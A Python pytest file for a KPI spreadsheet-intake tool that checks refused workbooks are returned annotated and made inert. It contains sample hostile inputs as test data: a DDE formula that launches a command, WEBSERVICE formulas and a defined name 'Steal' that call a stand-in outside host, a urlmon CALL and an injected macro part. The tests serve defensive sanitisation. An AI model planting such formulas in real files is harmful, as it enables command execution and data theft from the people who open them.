"""A refused file comes back marked: comments, colour, words, a list with links; nothing in it is live or changed."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from kpi.errors import RefusedFile
from kpi.intake.marking.inert import computes_inside
from kpi.intake.marking.writing import marked
from kpi.intake.options import RowError
from kpi.intake.sheets.findings import error, info, warning
from kpi.intake.sheets.grid import read_book
from kpi.intake.templates.reading import tidy_of
from kpi.intake.templates.writing import template
from kpi.periods import Period
from kpi.store.snapshot import Snapshot
from tests.small_organisation import TOWN, small_store

__all__ = ["small_store"]
FINDINGS = (
    error("Data", "B3", "'{text}' is no number.", text="banyak"),
    warning("Data", "B2", "A jump."),
    warning("Data", "B3", "And a jump."),
    info("Data", "A1", "Read as tidy."),
    error(None, None, "The file has no unit."),
)


def workbook(draw: Callable[[xlsxwriter.Workbook, xlsxwriter.worksheet.Worksheet], None] | None = None) -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Data")
    for row, cells in enumerate([("Indikator", "Realisasi"), ("A", 12.5), ("=cmd|' /C calc'!A0", "banyak")]):
        sheet.write_row(row, 0, cells)
    if draw:
        draw(book, sheet)
    book.close()
    return stream.getvalue()


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def coloured(sheet) -> dict[str, str]:
    """Each coloured area with its colour."""
    return {
        str(formatting.sqref): rule.dxf.fill.bgColor.rgb[-6:]
        for formatting in sheet.conditional_formatting
        for rule in formatting.rules
    }


def test_faulty_cells_carry_a_comment_with_a_word_and_a_colour():
    book = opened(marked(workbook(), FINDINGS, [], "en"))
    sheet = book["Data"]

    assert sheet["B3"].comment.text == "ERROR: 'banyak' is no number.\nWARNING: And a jump."
    assert sheet["B2"].comment.text == "WARNING: A jump."
    assert sheet["A1"].comment is None
    assert coloured(sheet) == {"B3": "FFC7CE", "B2": "FFD08A"}
    assert (sheet["B3"].value, sheet["B2"].value) == ("banyak", 12.5)


def test_the_list_comes_first_with_links_and_errors_before_warnings():
    book = opened(marked(workbook(), FINDINGS, [], "id"))
    sheet = book.worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=7)]

    assert book.sheetnames == ["Hasil Pemeriksaan", "Data"]
    assert sheet["A2"].value == "2 kesalahan, 2 peringatan"
    assert [row[1] for row in rows] == ["KESALAHAN", "KESALAHAN", "PERINGATAN", "PERINGATAN", "CATATAN"]
    assert rows[1][2:5] == ["Data", "B3", "banyak"]
    assert sheet["D8"].hyperlink.location == "'Data'!B3"
    assert book.active.title == "Hasil Pemeriksaan"


def test_texts_stay_texts_and_formulas_only_compute_inside():
    def draw(book, sheet):
        sheet.write_formula("C1", "=SUM(B1:B2)", None, 12.5)
        sheet.write_formula("C2", '=WEBSERVICE("http://x.example/"&A1)', None, "answer")
        sheet.write_formula("C3", "='[other.xlsx]Data'!A1", None, 7)
        book.define_name("Steal", '=WEBSERVICE("http://x.example")')

    book = opened(marked(workbook(draw), FINDINGS, [], "en"))
    sheet = book["Data"]

    assert (sheet["A3"].value, sheet["A3"].data_type, sheet["A3"].quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)
    assert (sheet["C1"].value, sheet["C1"].data_type) == ("=SUM(B1:B2)", "f")
    assert (sheet["C2"].value, sheet["C2"].data_type) == ("answer", "s")
    assert sheet["C3"].value == 7
    assert "Steal" not in book.defined_names
    assert book.worksheets[0]["A5"].value == "2 formulas that reach outside this file stand here as their values."


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ("=SUM(A1:A3)*100", True),
        ("=IF('Data Lain'!A1=\"[x]\",1,2)", True),
        ("=cmd|' /C calc'!A0", False),
        ("=[1]Sheet1!A1", False),
        ("='[a.xlsx]B'!A1", False),
        ('=HYPERLINK("http://x.example")', False),
        ('=webservice ("http://x.example")', False),
        ("=_xlfn.WEBSERVICE(A1)", False),
        ('=CALL("urlmon","x")', False),
    ],
)
def test_which_formulas_compute_inside(formula, expected):
    assert computes_inside(formula) is expected


def test_macros_and_links_to_other_files_are_left_out():
    stream = io.BytesIO(workbook())
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr("xl/vbaProject.bin", b"macro")
    found = zipfile.ZipFile(io.BytesIO(marked(stream.getvalue(), FINDINGS, [], "en"))).namelist()

    assert not [part for part in found if "vba" in part or "externalLink" in part]


def test_a_csv_comes_back_as_a_workbook_with_its_lines_marked():
    content = b"unit_code,indicator_code,value\nA,X,1\nA,=1+1,x\n"
    errors = [
        RowError(3, "value", "'x' is no number.", Path("a.csv")),
        RowError(2, None, "Twice.", Path("a.csv")),
        RowError(None, None, "Whole file.", Path("a.csv")),
    ]
    book = opened(marked(content, [], errors, "en", "a.csv"))
    sheet = book["csv"]

    assert sheet["C3"].comment.text == "ERROR: 'x' is no number."
    assert sheet["A2"].comment.text == "ERROR: Twice."
    assert (sheet["B3"].value, sheet["B3"].data_type) == ("=1+1", "s")
    assert "made anew from its cells" in book.worksheets[0]["A5"].value
    assert book.worksheets[0].max_row == 7 + 3


def test_what_an_earlier_marking_left_goes_away():
    first = marked(workbook(), FINDINGS, [], "id")
    book = opened(marked(first, [warning("Data", "B2", "A jump.")], [], "en"))

    assert book.sheetnames == ["Check results", "Data"]
    assert book["Data"]["B3"].comment is None
    assert book["Data"]["B2"].comment.text == "WARNING: A jump."
    assert coloured(book["Data"]) == {"B2": "FFD08A"}


def test_a_persons_own_comment_and_sheet_of_that_name_stay():
    def draw(book, sheet):
        sheet.write_comment("B3", "Tanya Bu Sari", {"author": "Budi"})
        book.add_worksheet("Check results").write("A1", "mine")

    book = opened(marked(workbook(draw), FINDINGS, [], "en"))

    assert book["Data"]["B3"].comment.text.endswith("Tanya Bu Sari")
    assert book["Check results"]["A1"].value == "mine"
    assert book.sheetnames[0] == "Check results 2"


def test_a_fault_under_a_merged_area_is_marked_at_its_first_cell():
    book = opened(
        marked(
            workbook(lambda book, sheet: sheet.merge_range("B3:C4", "banyak")),
            [error("Data", "C4", "No number.")],
            [],
            "en",
        )
    )

    assert book["Data"]["B3"].comment.text == "ERROR: No number."


def test_a_sheet_of_empty_cells_without_end_is_given_back_by_its_cells():
    merged = b'<mergeCells count="1"><mergeCell ref="A10:XFD1048576"/></mergeCells></worksheet>'
    stream, source = io.BytesIO(), zipfile.ZipFile(io.BytesIO(workbook()))
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for part in source.namelist():
            content = source.read(part)
            is_sheet = part == "xl/worksheets/sheet1.xml"
            package.writestr(part, content.replace(b"</worksheet>", merged) if is_sheet else content)
    book = opened(marked(stream.getvalue(), FINDINGS, [], "en"))

    assert book["Data"]["B3"].comment is not None
    assert not book["Data"].merged_cells.ranges


def test_a_file_that_can_not_be_opened_is_refused():
    with pytest.raises(RefusedFile):
        marked(b"PK\x03\x04 broken", [], [], "en")


def test_a_marked_template_still_reads_as_the_template_it_was(small_store):
    content = template(Snapshot.open(small_store), TOWN, "DISDIK", Period.parse("2026-Q3"), "id")
    before = tidy_of(read_book(content))
    after = tidy_of(read_book(marked(content, [error("Isian", "P8", "Wrong.")], [], "id")))

    assert before is not None
    assert after is not None
    assert after.rows.equals(before.rows)
    assert after.sources.equals(before.sources)
    assert after.definitions == before.definitions
    assert not after.findings
